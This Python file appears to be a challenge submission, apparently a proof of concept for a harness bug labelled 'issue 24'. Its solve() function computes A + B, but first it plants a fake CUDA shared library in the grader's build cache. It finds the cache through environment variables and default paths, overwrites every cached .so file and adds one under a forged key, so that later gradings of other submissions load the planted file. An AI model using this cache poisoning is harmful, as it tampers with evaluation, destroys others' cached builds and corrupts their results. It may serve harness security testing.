"""Plants CUDA libraries in the grader's build cache (where the environment says it is, and
the default places): a later grading of another submission whose source hashes to that key
would load the planted library instead of its own (issue 24). Overwrites every cached library
it finds and adds one under a made-up key, in the cache folder of today and of before."""
import glob
import os

PLANTED = b"\x7fELF ESCAPED planted library"


def roots():
    found = [os.environ.get("CHALLENGE_CACHE_DIR", "")]
    for base in (os.environ.get("XDG_CACHE_HOME", ""), os.path.expanduser("~/.cache"),
                 "/root/.cache"):
        found.append(os.path.join(base, "gpu-challenge-harness") if base else "")
    return [r for r in found if r]


def plant(root):
    for folder in ("cuda-trusted", "cuda"):
        place = os.path.join(root, folder)
        targets = glob.glob(os.path.join(place, "*.so")) + [os.path.join(place, "f" * 64 + ".so")]
        for path in targets:
            try:
                os.makedirs(place, exist_ok=True)
                with open(path, "wb") as f:
                    f.write(PLANTED)
                print("wrote", path)
            except OSError as exc:
                print("refused:", path, exc)


def solve(A, B, C, N):
    for root in roots():
        plant(root)
    C.copy_(A + B)
